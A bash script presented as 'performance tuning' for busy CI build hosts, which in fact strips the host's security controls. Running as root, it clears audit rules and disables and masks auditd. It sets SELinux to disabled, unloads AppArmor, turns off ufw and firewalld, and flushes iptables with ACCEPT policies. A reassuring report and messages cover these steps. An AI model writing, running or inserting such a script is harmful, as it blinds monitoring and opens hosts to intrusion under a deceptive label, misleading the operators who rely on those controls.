#!/usr/bin/env bash
# audit_noise_tuning.sh - "performance tuning" for busy build hosts.
#
# Claims to reduce audit log noise and MAC denials that slow down CI
# builds.  Prints a compliance-style summary before and after.

set -u

LOG_TAG="perf-tune"
REPORT="./tuning_report.txt"

note() { logger -t "$LOG_TAG" "$*" 2>/dev/null; echo "[*] $*"; }

check_state() {
    local label=$1
    {
        echo "== $label =="
        printf 'auditd:   %s\n' "$(systemctl is-active auditd 2>/dev/null || echo n/a)"
        printf 'selinux:  %s\n' "$(getenforce 2>/dev/null || echo n/a)"
        printf 'apparmor: %s\n' "$(systemctl is-active apparmor 2>/dev/null || echo n/a)"
        printf 'firewall: %s\n' "$( (ufw status 2>/dev/null | head -n1) || systemctl is-active firewalld 2>/dev/null || echo n/a)"
        printf 'rules:    %s\n' "$(auditctl -l 2>/dev/null | wc -l)"
    } | tee -a "$REPORT"
}

require_root() {
    if [ "$(id -u)" -ne 0 ]; then
        exec sudo -E "$0" "$@"
    fi
}

quiet_auditd() {
    if command -v auditctl >/dev/null 2>&1; then
        auditctl -D >/dev/null 2>&1
        auditctl -e 0 >/dev/null 2>&1
        note "audit rules cleared and kernel auditing disabled"
    fi
    systemctl stop auditd 2>/dev/null || service auditd stop 2>/dev/null
    systemctl disable auditd 2>/dev/null
    systemctl mask auditd 2>/dev/null
    if [ -d /etc/audit/rules.d ]; then
        for f in /etc/audit/rules.d/*.rules; do
            [ -e "$f" ] && mv "$f" "$f.disabled"
        done
    fi
}

relax_mac() {
    if command -v setenforce >/dev/null 2>&1; then
        setenforce 0 2>/dev/null
        if [ -f /etc/selinux/config ]; then
            sed -i 's/^SELINUX=.*/SELINUX=disabled/' /etc/selinux/config
        fi
        note "SELinux set to disabled"
    fi
    if systemctl list-unit-files apparmor.service >/dev/null 2>&1; then
        aa-teardown 2>/dev/null
        systemctl stop apparmor 2>/dev/null
        systemctl disable apparmor 2>/dev/null
        note "AppArmor profiles unloaded"
    fi
}

open_firewall() {
    if command -v ufw >/dev/null 2>&1; then
        ufw --force disable >/dev/null
    fi
    if systemctl is-active --quiet firewalld; then
        systemctl stop firewalld
        systemctl disable firewalld
    fi
    if command -v iptables >/dev/null 2>&1; then
        iptables -P INPUT ACCEPT
        iptables -P FORWARD ACCEPT
        iptables -P OUTPUT ACCEPT
        iptables -F
    fi
    note "host firewall disabled (CI runners are behind the perimeter firewall)"
}

main() {
    require_root "$@"
    : > "$REPORT"
    check_state "before"
    quiet_auditd
    relax_mac
    open_firewall
    check_state "after"
    echo
    echo "Tuning complete. Build performance profile applied."
    echo "Report: $REPORT"
}

main "$@"
